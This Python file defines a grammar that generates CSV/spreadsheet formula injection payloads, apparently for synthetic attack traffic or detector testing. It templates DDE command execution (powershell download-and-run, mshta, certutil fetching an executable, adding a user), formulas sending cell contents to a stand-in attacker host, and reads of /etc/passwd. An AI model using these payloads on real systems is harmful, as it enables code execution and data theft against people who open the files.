"""Spreadsheet formulas (OWASP's CSV injection): a cell that runs or fetches when opened."""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "p": (
        "=", "=", "=", "+", "-", "@", "\t=", "\r=", '"=', "'=", ",=", ";=", "%0A=", "=+", "@=",
        " =", "|=", "＝",
    ),
    "num": ("", "‹n›+", "‹d›+‹d›+", "‹n›-", "‹n›*"),
    "cmd": (
        "calc", "calc.exe", "notepad", "powershell -e ‹b64s›", "powershell IEX(wget ‹url›)",
        "ping ‹ip›", "mshta ‹url›", "cmd /c whoami", "net user ‹id› ‹rnd› /add",
        "certutil -urlcache -f ‹url› ‹id›.exe", "nslookup ‹evil›",
    ),
    "cell": (
        "A‹d›", "B‹n›", "A0", "A1", "Z‹d›", "'Sheet1'!A‹d›", "A‹d›&B‹d›", "CONCATENATE(A1:E‹d›)",
        "A1:C‹n›",
    ),
    "url": ("http://‹evil›", "https://‹evil›/‹id›", "http://‹ip›:‹port›/‹abc›", "\\\\‹ip›\\‹abc›"),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    dde=(
        "‹p›‹num›cmd|' /C ‹cmd›'!‹A0¦A1¦'A1'¦B‹d››", "‹p›‹num›cmd|'/c ‹cmd›'!A‹d›",
        '‹p›DDE("cmd";"/C ‹cmd›";"!A0")', '‹p›DDE("cmd","/C ‹cmd›","‹rnd›")',
        "‹p›MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c ‹cmd›'!''",
        "‹p›rundll32|'URL.dll,OpenURL ‹cmd›'!A", "‹p›regsvr32|'/s /n /u /i:‹url› scrobj.dll'!‹abc›",
        "‹val›\n‹p›cmd|' /C ‹cmd›'!A0", "‹p›‹num›thespanishinquisition(cmd|'/c ‹cmd›'!A",
        "‹val›,‹p›cmd|'/C ‹cmd›'!A‹d›", "‹p›SUM(‹d›+‹d›)*cmd|' /C ‹cmd›'!A0",
    ),
    fetching=(
        '‹p›HYPERLINK("‹url›?x="&‹cell›,"‹words›")',
        '‹p›IMPORTXML(CONCAT("‹url›?v=",‹cell›),"//‹abc›")', '‹p›IMPORTDATA("‹url›?"&‹cell›)',
        '‹p›WEBSERVICE("‹url›?"&‹cell›)', '‹p›IMPORTHTML("‹url›","table",‹d›)',
        '‹p›IMPORTRANGE("‹url›","‹cell›")', '‹p›IMAGE("‹url›?"&‹cell›)', '‹p›IMPORTFEED("‹url›")',
        '‹p›HYPERLINK("javascript:alert(‹n›)","‹word›")',
        '‹p›FILTERXML(WEBSERVICE("‹url›"),"//‹abc›")',
        '‹val›",‹p›WEBSERVICE(CONCATENATE("‹url›?",‹cell›))',
    ),
    files=(
        "‹p›'file:///etc/‹passwd¦hosts¦‹id››'#$‹abc›.A‹d›",
        '‹p›WEBSERVICE(CONCATENATE("‹url›",(\'file:///etc/passwd\'#$passwd.A‹d›)))',
        '‹p›INFO("directory")&‹cell›&WEBSERVICE("‹url›")',
        '‹p›CELL("filename")&HYPERLINK("‹url›","‹abc›")', '‹p›EXEC("‹cmd›")',
        '‹p›CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","‹cmd›","","",‹d›)',
        '‹p›REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","‹abc›")', '‹p›FOPEN("C:\\‹id›",‹d›)',
    ),
)
